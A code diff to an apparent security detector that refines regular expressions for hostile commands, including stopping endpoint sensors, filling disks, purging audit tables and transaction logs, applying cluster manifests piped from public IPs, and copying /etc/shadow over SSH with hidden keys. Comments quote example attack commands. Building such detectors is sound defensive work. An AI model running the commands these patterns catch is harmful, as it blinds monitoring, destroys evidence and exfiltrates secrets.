@@ -573,14 +573,6 @@ class Capability(StrEnum):
         "hides a command in a brace list or written backwards, or runs a download's output as a "
         "command (a command line)"
     )
-    AIM_ON_OTHERS_DEVICE = (
-        "says in its comment that it breaks into, takes the data of or knocks down someone "
-        "else's device, account or network (a command line)"
-    )
-    AIM_KEPT_FROM_OWNER = (
-        "says in its comment that it is hidden from the system's admins or owner, or done so "
-        "they cannot restore or notice (a command line)"
-    )
     MAIL_IMPERSONATION = (
         "mails an urgent payment or account lure in a name whose replies go elsewhere, through "
         "another's server or down a list (a command line)"
@@ -719,8 +711,17 @@ _SYSTEM_ACCOUNT = (
     r"|list|irc|gnats|sshd|messagebus|syslog|operator|systemd-[\w-]+|_apt)"
 )
 """The accounts a Linux system makes for its own services, none of them meant to sign in."""
+_FILLER_KEPT = (
+    r"(?!(?![^\n]{0,400}?\bchattr\s+\+i)[^\n]{0,400}?\brm\s+(?:-\w+\s+)*['\"]?\1(?=['\"\s;&|)]|$))"
+)
+"""A lookahead, put after a filler file's path captured as group 1, that refuses a line which
+removes that path again (`; rm -f PATH`) and makes nothing immutable: a filler that is cleaned up."""
 _SCRATCH_FOLDER = r"/(?:tmp|var/tmp|dev/shm)"
 """A folder anyone may write to, or one kept in memory, where things are staged unseen."""
+_HOMES_OR_SYSTEM_SOURCE = (
+    r"(?<=[\s'\"])(?<!-i )(?:/home|/root|/Users|/etc|/var/(?:mail|lib|backups)|~)(?=[/\s'\"]|$)"
+)
+"""A local path of people's homes or the system's own folders (a remote `HOST:/home` is not one)."""
 _MODULE_FILE = r"\.ko(?:\.[gx]z|\.zst)?(?![\w.])"
 """A kernel module's file name's end, compressed or not."""
 STOPPED_SECURITY = (
@@ -824,6 +825,12 @@ _NOT_PRIVATE_IPV4 = rf"(?!127\.|{PRIVATE_IPV4})"
 192.168/16, 172.16/12) IPv4 address: one's own machine and network, where a public address is
 someone else's. A pattern that also counts link-local (169.254/16) or the unspecified 0.0.0.0
 as its own adds that alternative as a second lookahead after this one."""
+_SHARED_ADDRESS_SPACE = r"100\.(?:6[4-9]|[7-9]\d|1[01]\d|12[0-7])\."
+"""The first octets of the shared address space 100.64/10 (carrier-grade NAT, a Tailscale or
+other overlay network's addresses): a provider's or one's own tailnet, never a public host."""
+_NOT_OWN_NETWORK_IPV4 = _NOT_PRIVATE_IPV4 + rf"(?!0\.|169\.254\.|{_SHARED_ADDRESS_SPACE})"
+"""`_NOT_PRIVATE_IPV4` with the unspecified, link-local and shared (100.64/10) addresses also
+refused: a host reached on one's own machine, link or overlay network."""
 
 _SCANNER = (
     r"(?:urlscan|virustotal|safebrowsing|proofpoint|mimecast|barracuda|fortiguard|fortinet"
@@ -935,6 +942,17 @@ _PHP_INPUTS = r"\$_(?:GET|POST|REQUEST|COOKIE)"
 """What a PHP page's visitor sends: its query and form parameters and its cookies."""
 _PHP_INPUT = _PHP_INPUTS + r"\s*\["
 """One of `_PHP_INPUTS` read (`$_POST['c']`)."""
+_SENSOR_SERVICE = (
+    r"(?:CSFalcon\w*|SentinelAgent|SentinelStaticEngine|CbDefense|CarbonBlack|MsSense|SenseNdr"
+    r"|TaniumClient|CylanceSvc|xagt|ekrn|SAVService|Sophos\w*|elastic-agent|ElasticEndpoint"
+    r"|Sysmon\w*|ossec\w*|WazuhSvc)"
+)
+"""The Windows service names of endpoint and monitoring sensors."""
+_SENSOR_UPKEEP = (
+    r"(?:\bmsiexec\b|\.msi\b|\b(?:upgrade|update|install)\b|\.(?:conf|xml|ini|ya?ml|json)\b)"
+)
+"""A step of a sensor's own upkeep: its installer or upgrade run, or its settings file written
+(a program dropped while the sensor is down is none of these)."""
 _DEFENDER_SERVICE = r"\b(?:WinDefend|Sense|MsMpSvc|WdNisSvc)\b"
 """Microsoft Defender's services (the antivirus, Defender for Endpoint, its network inspection)."""
 _SECURITY_AGENT = (
@@ -1798,30 +1816,49 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         ),
     ),
     Capability.AUDIT_ROWS_DELETED: (
-        # (named by its schema, or by its database and schema too: `AppDB.dbo.AuditLog`)
+        # (named by its schema, or by its database and schema too: `AppDB.dbo.AuditLog`); a
+        # `DELETE`'s hit holds its `WHERE` when one follows, so a deletion of every row can be
+        # told from a filtered one; a table copied whole into another just before (`INSERT INTO
+        # archive.t SELECT * FROM t; TRUNCATE TABLE t`) is taken as one hit that starts with
+        # the copy, whose rows are kept
         re.compile(
-            r"\b(?:DELETE\s+FROM|TRUNCATE\s+(?:TABLE\s+)?|DROP\s+TABLE\s+(?:IF\s+EXISTS\s+)?)\s*[\[`\"]?(?:\w+[\]`\"]?\.[\[`\"]?){0,2}\w*(?:audit|history|changelog|activity_?log)\w*",
+            r"\bINSERT\s+INTO\s+[\w.\[\]`\"]+\s+SELECT\s+\*\s+FROM\s+([\w.]+)\s*;\s*"
+            r"(?:DELETE\s+FROM|TRUNCATE\s+(?:TABLE\s+)?)\s*\1\b"
+            r"|\b(?:DELETE\s+FROM|TRUNCATE\s+(?:TABLE\s+)?|DROP\s+TABLE\s+(?:IF\s+EXISTS\s+)?)\s*[\[`\"]?(?:\w+[\]`\"]?\.[\[`\"]?){0,2}\w*(?:audit|history|changelog|activity_?log)\w*"
+            r"(?:[\]`\"]?\s+WHERE\b)?",
             _I,
         ),
     ),
     # a disk's free space taken whole: a file allocated at the size `df` reports free, or
-    # written from a zero or random source with no count, until nothing is left (a swap file
-    # or an image of a set size, `count=4096`, `fallocate -l 4G`, is not)
+    # written from a zero or random source with no count (`dd` with its operands in any order,
+    # `cat /dev/zero > FILE`), until nothing is left (a swap file or an image of a set size,
+    # `count=4096`, `fallocate -l 4G`, is not, nor is free space zero-filled before an image
+    # is compacted, the filler removed by the same line: `dd if=/dev/zero of=/var/tmp/.z bs=1M;
+    # rm -f /var/tmp/.z`)
     Capability.DISK_FILLED: (
         re.compile(
-            r"\bfallocate\s(?>[^\n|;&]{0,40}?-l)\s*['\"]?\$\(\s*df\b[^\n)]{0,120}?\bavail"
-            r"|\bdd\s+if=/dev/u?(?:zero|random)\s+of=(?!/dev/)[^\s;&|]+(?![^\n|;&]{0,200}?\bcount=)",
+            r"\bfallocate\s(?>[^\n|;&]{0,40}?-l)\s*['\"]?\$\(\s*df\b[^\n)]{0,120}?\bavail", _I
+        ),
+        re.compile(
+            r"\bdd\b(?=[^\n|;&]{0,200}?\sif=/dev/u?(?:zero|random)\b)(?![^\n|;&]{0,300}?\scount=)"
+            r"[^\n|;&]{0,200}?\sof=(?!/dev/)((?>[^\s;&|]+))" + _FILLER_KEPT,
+            _I,
+        ),
+        re.compile(
+            r"\bcat\s+/dev/u?(?:zero|random)\s*>\s*(?!/dev/)((?>[^\s;&|]+))" + _FILLER_KEPT,
             _I,
         ),
     ),
     # the log that could bring deleted rows back thrown away: SQL Server's recovery set to
     # simple and its log file shrunk, or the log backed up to the null device; MySQL's binary
-    # logs purged or reset
+    # logs purged up to now or reset (a dated retention, `PURGE BINARY LOGS BEFORE NOW() -
+    # INTERVAL 7 DAY` or `TO 'binlog.000120'`, keeps the recent ones)
     Capability.TRANSACTION_LOG_DISCARDED: (
         re.compile(
             r"\bSET\s+RECOVERY\s+SIMPLE\b[^\n]{0,400}?\bSHRINKFILE\b"
             r"|\bBACKUP\s+LOG\s+\S+\s+TO\s+DISK\s*=\s*N?'NUL:?'"
-            r"|\bPURGE\s+(?:BINARY|MASTER)\s+LOGS\b|\bRESET\s+MASTER\b",
+            r"|\bPURGE\s+(?:BINARY|MASTER)\s+LOGS\b(?!\s+(?:TO\b|BEFORE\s+[^;\n\"]{0,60}?(?:\bINTERVAL\b|'\d{4}-)))"
+            r"|\bRESET\s+MASTER\b",
             _I,
         ),
     ),
@@ -2799,11 +2836,15 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             _I,
         ),
         # another vendor's endpoint sensor stopped or its service deleted by the service
-        # manager (`sc stop CSFalconService`, `sc.exe delete SentinelAgent`); querying one is not
+        # manager (`sc stop CSFalconService`, `net stop CSFalconService`, `sc.exe delete
+        # SentinelAgent`); querying one is not, nor is a stop around the sensor's own
+        # upgrade or reconfiguration that the same line starts again (`sc stop WazuhSvc &&
+        # msiexec /i wazuh-agent.msi /q && sc start WazuhSvc`)
         re.compile(
-            r"\bsc(?:\.exe)?\s+(?:stop|delete)\s+['\"]?(?:CSFalcon\w*|SentinelAgent|SentinelStaticEngine"
-            r"|CbDefense|CarbonBlack|MsSense|SenseNdr|TaniumClient|CylanceSvc|xagt|ekrn|SAVService"
-            r"|Sophos\w*|elastic-agent|ElasticEndpoint|Sysmon\w*|ossec\w*|WazuhSvc)\b",
+            r"\b(?:(?:sc|net)(?:\.exe)?\s+stop\s+['\"]?(" + _SENSOR_SERVICE + r")\b"
+            r"(?!(?=[^\n]{0,400}?" + _SENSOR_UPKEEP + r")[^\n]{0,400}?"
+            r"\b(?:(?:sc|net)(?:\.exe)?\s+start|Start-Service(?:\s+-Name)?)\s+['\"]?\1\b)"
+            r"|\bsc(?:\.exe)?\s+delete\s+['\"]?" + _SENSOR_SERVICE + r"\b)",
             _I,
         ),
         # scripts or their interpreters excluded from scanning: whatever runs through them is
@@ -4784,13 +4825,20 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
     ),
     Capability.RUN_DOWNLOADED: (
         # a cluster's manifest applied straight from a bare public address (`kubectl -n
-        # kube-system apply -f https://203.0.113.66/ds.yaml`): whatever that host serves runs in
-        # the cluster (a project's manifest by its release address is an installer's)
+        # kube-system apply -f https://203.0.113.66/ds.yaml`, or fetched and piped in: `curl -s
+        # https://203.0.113.66/ds.yaml | kubectl apply -f -`): whatever that host serves runs in
+        # the cluster (a project's manifest by its release address is an installer's, an address
+        # of one's own network or tailnet is one's own)
         re.compile(
             r"\b(?:kubectl|oc)\s(?>[^\n|;&]{0,80}?\b(?:apply|create|replace)\b)[^\n|;&]{0,80}?"
-            r"(?:-f|--filename)[= ]\s*['\"]?https?://(?!127\.|0\.|169\.254\.|"
-            + PRIVATE_IPV4
-            + r")\d{1,3}(?:\.\d{1,3}){3}(?=[:/'\"\s]|$)",
+            r"(?:-f|--filename)[= ]\s*['\"]?https?://"
+            + _NOT_OWN_NETWORK_IPV4
+            + r"\d{1,3}(?:\.\d{1,3}){3}(?=[:/'\"\s]|$)"
+            r"|\b(?:curl|wget)\b[^\n|;&]{0,200}?https?://"
+            + _NOT_OWN_NETWORK_IPV4
+            + r"\d{1,3}(?:\.\d{1,3}){3}(?=[:/'\"\s]|$)"
+            r"[^\n|;&]{0,200}?\|\s*(?:sudo\s+)?(?:kubectl|oc)\s(?>[^\n|;&]{0,80}?\b(?:apply|create|replace)\b)"
+            r"[^\n|;&]{0,80}?(?:-f|--filename)[= ]\s*-(?=\s|$)",
             _I,
         ),
         # a DNS TXT answer piped into a shell (`dig +short TXT x.zone | base64 -d | sh`)
@@ -7258,12 +7306,16 @@ _PACKAGE_PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             + r"/(?:[^\s'\"/]+/)*\.[^\s'\"/]+['\"]?\s+rclone\b",
             _I,
         ),
-        # the same for a copy over SSH whose key is such a dot-file (`rsync -az /home/ u@HOST:/d
-        # -e 'ssh -i /tmp/.k'`, `scp -i /dev/shm/.id ...`); a key kept in `~/.ssh` or a CI's
-        # named key file (`/tmp/deploy_key`) is one's own, and rsync's own `-i` itemizes
+        # the same for a copy of homes or system folders over SSH whose key is such a dot-file
+        # (`rsync -az /home/ u@HOST:/d -e 'ssh -i /tmp/.k'`, `scp -i /dev/shm/.id /etc/shadow
+        # ...`); a key in scratch is not covert by itself (a site deploy with `-e 'ssh -i
+        # /tmp/.deploy_key'`), nor one in a dot-folder (`/tmp/.ssh/id_ed25519`), nor a key
+        # kept in `~/.ssh`; rsync's own `-i` (outside the quoted `-e` value) itemizes
         re.compile(
-            r"\b(?:rsync\b[^\n|;&]{0,300}?\bssh\b[^\n|;&'\"]{0,100}?|(?:scp|sftp)\b[^\n|;&]{0,200}?)"
-            r"\s-i\s*['\"]?" + _SCRATCH_FOLDER + r"/(?:[^\s'\"/]+/)*\.[^\s'\"/]+",
+            r"\b(?:rsync|scp|sftp)\b(?=[^\n]{0,400}?" + _HOMES_OR_SYSTEM_SOURCE + r")"
+            r"(?:(?<=rsync)[^\n|;&]{0,300}?(?:-e\s*|--rsh=)['\"]ssh\b[^\n'\"]{0,100}?"
+            r"|(?<!rsync)[^\n|;&]{0,200}?)"
+            r"\s-i\s*['\"]?" + _SCRATCH_FOLDER + r"/(?:[^\s'\"/]+/)*\.[^\s'\"/]+(?=['\"\s]|$)",
             _I,
         ),
     ),
